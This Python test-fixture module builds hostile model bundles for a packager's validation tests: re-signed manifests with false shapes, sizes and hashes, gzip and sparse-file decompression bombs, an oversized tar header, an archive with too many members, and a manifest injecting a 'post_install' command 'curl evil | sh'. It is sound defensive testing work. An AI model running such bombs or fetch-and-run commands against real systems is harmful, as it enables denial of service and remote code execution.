"""Hostile bundles made from a real signed bundle: re-written tars, flipped bytes, lying
manifests re-signed with the trusted key, bombs. Each builder returns the path it wrote."""

from __future__ import annotations

import dataclasses
import gzip
import io
import json
import shutil
import subprocess
import tarfile
from collections.abc import Callable
from pathlib import Path

from packager.bundle.manifest import MANIFEST_NAME, Manifest, TensorSpec
from packager.bundle.signing import load_private_key, sign

SIG = "manifest.sig"


def members(bundle: Path) -> list[tuple[str, bytes]]:
    """Every member of ``bundle`` in order, with its data."""
    with tarfile.open(bundle, "r:") as tar:
        return [(m.name, tar.extractfile(m).read()) for m in tar.getmembers()]  # type: ignore[union-attr]


def write_tar(path: Path, items: list[tuple[str, bytes] | tarfile.TarInfo]) -> Path:
    """A pax tar of ``items`` (name/data pairs, or bare headers) in order."""
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for item in items:
            if isinstance(item, tarfile.TarInfo):
                tar.addfile(item)
            else:
                info = tarfile.TarInfo(item[0])
                info.size = len(item[1])
                tar.addfile(info, io.BytesIO(item[1]))
    return path


def resigned(bundle: Path, out: Path, key: Path, change: Callable[[Manifest], Manifest],
             data: Callable[[str, bytes], bytes] = lambda _n, d: d) -> Path:
    """``bundle`` with its manifest changed by ``change`` (and member data by ``data``), signed
    again with ``key``: a bundle whose signature is good but whose manifest lies."""
    items = members(bundle)
    manifest = change(Manifest.from_json(items[0][1]))
    raw = manifest.canonical_bytes()
    signature = sign(load_private_key(key), raw)
    rest = [(n, data(n, d)) for n, d in items if n not in (MANIFEST_NAME, SIG)]
    return write_tar(out, [(MANIFEST_NAME, raw), (SIG, signature), *rest])


def narrower_input(m: Manifest) -> Manifest:
    """The manifest says the input has 32 features; the model takes 64."""
    inputs = tuple(dataclasses.replace(t, shape=(-1, 32)) if isinstance(t, TensorSpec) else t
                   for t in m.inputs)
    return dataclasses.replace(m, inputs=inputs, version=m.version + 10)


def wrong_sizes(m: Manifest) -> Manifest:
    files = tuple(dataclasses.replace(f, size=f.size + 1) for f in m.files)
    return dataclasses.replace(m, files=files, version=m.version + 11)


def wrong_hashes(m: Manifest) -> Manifest:
    files = tuple(dataclasses.replace(f, sha256="0" * 64) for f in m.files)
    return dataclasses.replace(m, files=files, version=m.version + 12)


def gzip_bomb(out: Path, inner_bytes: int = 64 << 20) -> Path:
    """A gzip stream that inflates to ``inner_bytes`` of a tar (64 MiB from ~64 KiB)."""
    with gzip.open(out, "wb", compresslevel=9) as f:
        f.write(tarfile.TarInfo(MANIFEST_NAME).tobuf(format=tarfile.PAX_FORMAT))
        zeros = b"\0" * (1 << 20)
        for _ in range(inner_bytes >> 20):
            f.write(zeros)
    return out


def sparse_bomb(bundle: Path, out: Path, work: Path) -> Path | None:
    """The bundle's manifest plus a 1 GiB sparse member (~10 KiB of tar); None without GNU tar."""
    if shutil.which("tar") is None:
        return None
    work.mkdir(parents=True, exist_ok=True)
    (work / MANIFEST_NAME).write_bytes(members(bundle)[0][1])
    with open(work / "huge", "wb") as f:
        f.truncate(1 << 30)
    subprocess.run(["tar", "--sparse", "--format=pax", "-cf", str(out), "-C", str(work),
                    MANIFEST_NAME, "huge"], check=True)
    return out


def declared_huge(out: Path, first: bytes) -> Path:
    """A header that says its member is 5 GiB; the file holds 1 KiB of it."""
    info = tarfile.TarInfo("artifacts/onnxruntime/model.onnx")
    info.size = 5 << 30
    with open(out, "wb") as f:
        head = tarfile.TarInfo(MANIFEST_NAME)
        head.size = len(first)
        f.write(head.tobuf(format=tarfile.PAX_FORMAT))
        f.write(first + b"\0" * (-len(first) % 512))
        f.write(info.tobuf(format=tarfile.PAX_FORMAT))
        f.write(b"\1" * 1024 + b"\0" * 1024)
    return out


def many_members(out: Path, first: bytes, n: int = 10_001) -> Path:
    """More members than a bundle may hold (each one tiny)."""
    return write_tar(out, [(MANIFEST_NAME, first)] + [(f"f{i}", b"x") for i in range(n)])


def manifest_with_extra_key(bundle: Path, out: Path, key: Path) -> Path:
    """A signed manifest carrying a key format version 1 does not have (canonical otherwise)."""
    items = members(bundle)
    d = json.loads(items[0][1])
    d["post_install"] = "curl evil | sh"
    raw = json.dumps(d, sort_keys=True, separators=(",", ":")).encode()
    rest = [(n, b) for n, b in items if n not in (MANIFEST_NAME, SIG)]
    return write_tar(out, [(MANIFEST_NAME, raw), (SIG, sign(load_private_key(key), raw)),
                           *rest])
